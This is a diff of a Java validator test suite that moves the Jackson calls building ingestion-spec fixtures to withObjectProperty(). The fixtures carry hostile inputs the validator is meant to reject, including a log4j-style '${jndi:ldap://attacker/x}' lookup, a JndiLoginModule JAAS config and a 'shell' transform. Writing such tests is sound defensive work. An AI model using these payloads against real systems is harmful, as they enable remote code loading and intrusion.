@@ -36,11 +36,11 @@ class SpecValidatorTest {
   }
 
   private static ObjectNode io(ObjectNode spec) {
-    return (ObjectNode) spec.with("spec").with("ioConfig");
+    return spec.withObjectProperty("spec").withObjectProperty("ioConfig");
   }
 
   private static ObjectNode schema(ObjectNode spec) {
-    return (ObjectNode) spec.with("spec").with("dataSchema");
+    return spec.withObjectProperty("spec").withObjectProperty("dataSchema");
   }
 
   private static JsonNode parse(String json) {
@@ -63,7 +63,7 @@ class SpecValidatorTest {
             "spec.spec.dataSchema.transformSpec.transforms[0]",
             s ->
                 schema(s)
-                    .with("transformSpec")
+                    .withObjectProperty("transformSpec")
                     .set(
                         "transforms",
                         parse(
@@ -73,7 +73,7 @@ class SpecValidatorTest {
             "spec.spec.dataSchema.transformSpec.filter",
             s ->
                 schema(s)
-                    .with("transformSpec")
+                    .withObjectProperty("transformSpec")
                     .set(
                         "filter",
                         parse(
@@ -89,7 +89,7 @@ class SpecValidatorTest {
             "spec.spec.ioConfig.consumerProperties.sasl.jaas.config",
             s ->
                 io(s)
-                    .with("consumerProperties")
+                    .withObjectProperty("consumerProperties")
                     .put(
                         "sasl.jaas.config",
                         "com.sun.security.auth.module.JndiLoginModule required"
@@ -97,7 +97,10 @@ class SpecValidatorTest {
         hostile(
             "tenant-chosen consumer property",
             "spec.spec.ioConfig.consumerProperties.security.protocol",
-            s -> io(s).with("consumerProperties").put("security.protocol", "SASL_PLAINTEXT")),
+            s ->
+                io(s)
+                    .withObjectProperty("consumerProperties")
+                    .put("security.protocol", "SASL_PLAINTEXT")),
         hostile(
             "HTTP input source reading a file (CVE-2021-36749)",
             "spec.spec.ioConfig.inputSource",
@@ -109,17 +112,21 @@ class SpecValidatorTest {
         hostile(
             "unknown input format",
             "spec.spec.ioConfig.inputFormat.type",
-            s -> io(s).with("inputFormat").put("type", "regex")),
+            s -> io(s).withObjectProperty("inputFormat").put("type", "regex")),
         hostile(
             "nested input format other than JSON",
             "spec.spec.ioConfig.inputFormat.inputFormat.type",
-            s -> io(s).with("inputFormat").with("inputFormat").put("type", "avro_stream")),
+            s ->
+                io(s)
+                    .withObjectProperty("inputFormat")
+                    .withObjectProperty("inputFormat")
+                    .put("type", "avro_stream")),
         hostile(
             "unknown transform type",
             "spec.spec.dataSchema.transformSpec.transforms[0].type",
             s ->
                 schema(s)
-                    .with("transformSpec")
+                    .withObjectProperty("transformSpec")
                     .set("transforms", parse("[{\"type\":\"shell\",\"name\":\"x\"}]"))),
         hostile(
             "too many tasks", "spec.spec.ioConfig.taskCount", s -> io(s).put("taskCount", 1000)),
@@ -138,7 +145,7 @@ class SpecValidatorTest {
             "log4j-style lookup in a value",
             "spec.spec.dataSchema.dimensionsSpec.dimensions[0]",
             s ->
-                ((ArrayNode) schema(s).with("dimensionsSpec").get("dimensions"))
+                ((ArrayNode) schema(s).withObjectProperty("dimensionsSpec").get("dimensions"))
                     .set(0, JSON.getNodeFactory().textNode("${jndi:ldap://attacker/x}"))),
         hostile(
             "oversized value",
@@ -148,7 +155,7 @@ class SpecValidatorTest {
             "deep nesting",
             "spec.spec.tuningConfig.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x",
             s -> {
-              ObjectNode node = (ObjectNode) s.with("spec").with("tuningConfig");
+              ObjectNode node = s.withObjectProperty("spec").withObjectProperty("tuningConfig");
               for (int i = 0; i < 20; i++) {
                 node = node.putObject("x");
               }
